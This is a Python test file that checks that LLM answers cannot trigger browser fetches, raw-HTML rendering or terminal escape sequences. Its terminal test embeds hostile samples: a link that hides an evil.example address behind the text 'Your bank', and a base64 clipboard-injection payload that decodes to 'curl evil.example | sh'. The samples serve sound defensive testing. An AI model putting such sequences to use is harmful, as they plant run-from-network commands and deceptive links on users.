"""Answers are data to every client (LLM05): the page's Content-Security-Policy lets the browser
fetch nothing an answer names, the web app has no raw-HTML sink an answer could reach, and the
terminal shows escape sequences instead of obeying them."""

from __future__ import annotations

import re
from pathlib import Path

from switchboard_cli.chat import plain, render_frame
from switchboard_gateway.routes.page import CONTENT_SECURITY_POLICY

WEB_SRC = Path(__file__).resolve().parents[3] / "web" / "src"


def directives() -> dict[str, list[str]]:
    return {name: values for name, *values in
            (part.split() for part in CONTENT_SECURITY_POLICY.split(";") if part.strip())}


def test_the_page_may_load_nothing_from_another_origin() -> None:
    csp = directives()
    assert csp["img-src"] == ["'self'", "data:"]
    for name in ("default-src", "connect-src", "script-src"):
        assert csp[name] == ["'self'"], name
    assert csp["object-src"] == ["'none'"] and csp["frame-ancestors"] == ["'none'"]
    assert not re.search(r"https?:|\*", CONTENT_SECURITY_POLICY)


def test_the_web_app_renders_no_raw_html() -> None:
    sources = [p for p in WEB_SRC.rglob("*.ts*") if ".test." not in p.name]
    assert len(sources) > 10
    for source in sources:
        text = source.read_text()
        for sink in ("dangerouslySetInnerHTML", "innerHTML", "outerHTML", "insertAdjacentHTML",
                     "document.write", "<img", "<iframe"):
            assert sink not in text, (source.name, sink)


def test_the_terminal_shows_escape_sequences_instead_of_obeying_them() -> None:
    hidden_link = "\x1b]8;;https://evil.example/x\x1b\\Your bank\x1b]8;;\x1b\\"
    clipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    shown = render_frame({"type": "delta", "text": f"See {hidden_link}. {clipboard}\x9b2J"})
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert "https://evil.example/x" in shown  # the link's real target is visible
    assert shown.startswith("See \\x1b]8;;https://evil.example/x\\x1b\\Your bank")
    assert plain("line one\nline two\ttabbed") == "line one\nline two\ttabbed"
